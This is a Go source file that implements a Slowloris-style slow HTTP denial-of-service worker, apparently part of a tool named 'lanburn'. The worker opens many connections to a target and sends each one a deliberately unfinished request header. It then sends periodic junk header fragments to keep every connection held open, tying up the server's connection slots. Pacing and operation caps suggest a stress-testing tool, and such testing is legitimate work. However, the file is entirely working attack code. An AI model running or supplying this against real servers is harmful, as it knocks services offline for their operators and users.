package engine

import (
	"context"
	"net"
	"time"
)

var (
	// partialRequest is a request header that deliberately never
	// terminates, leaving the server waiting for the rest.
	partialRequest = []byte("GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: lanburn\r\nAccept: */*\r\n")
	// keepAliveFragment extends the unfinished header to keep the
	// connection from idling out.
	keepAliveFragment = []byte("X-a: b\r\n")
)

// runSlowWorker holds up to cfg.SlowConnections open connections per
// worker, feeding each a keep-alive fragment every cfg.SlowInterval.
// Opening one held connection is one operation; a send failure on a held
// connection drops it from the set without terminating the worker.
func runSlowWorker(ctx context.Context, id int, rt *runState) {
	dialer := &net.Dialer{Timeout: rt.cfg.Timeout}
	conns := make([]net.Conn, 0, rt.cfg.SlowConnections)
	defer func() {
		for _, c := range conns {
			_ = c.Close()
		}
	}()

	ticker := time.NewTicker(rt.cfg.SlowInterval)
	defer ticker.Stop()

	capReached := false
	for {
		if ctx.Err() != nil {
			return
		}
		if capReached && len(conns) == 0 {
			return
		}

		if !capReached && len(conns) < rt.cfg.SlowConnections {
			if !rt.reserveOp() {
				capReached = true
				continue
			}
			if rt.pace(ctx) != nil {
				return
			}
			start := time.Now()
			conn, err := dialer.DialContext(ctx, "tcp", rt.addr())
			if err != nil {
				if ctx.Err() != nil {
					return
				}
				rt.stats.RecordFailure(time.Since(start), err)
				continue
			}
			_ = conn.SetWriteDeadline(time.Now().Add(rt.cfg.Timeout))
			n, err := conn.Write(partialRequest)
			if err != nil {
				_ = conn.Close()
				rt.stats.RecordFailure(time.Since(start), err)
				continue
			}
			conns = append(conns, conn)
			rt.stats.RecordSuccess(n, time.Since(start))
			continue
		}

		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			alive := conns[:0]
			for _, c := range conns {
				_ = c.SetWriteDeadline(time.Now().Add(rt.cfg.Timeout))
				n, err := c.Write(keepAliveFragment)
				if err != nil {
					_ = c.Close()
					continue
				}
				rt.stats.AddBytes(n)
				alive = append(alive, c)
			}
			conns = alive
		}
	}
}
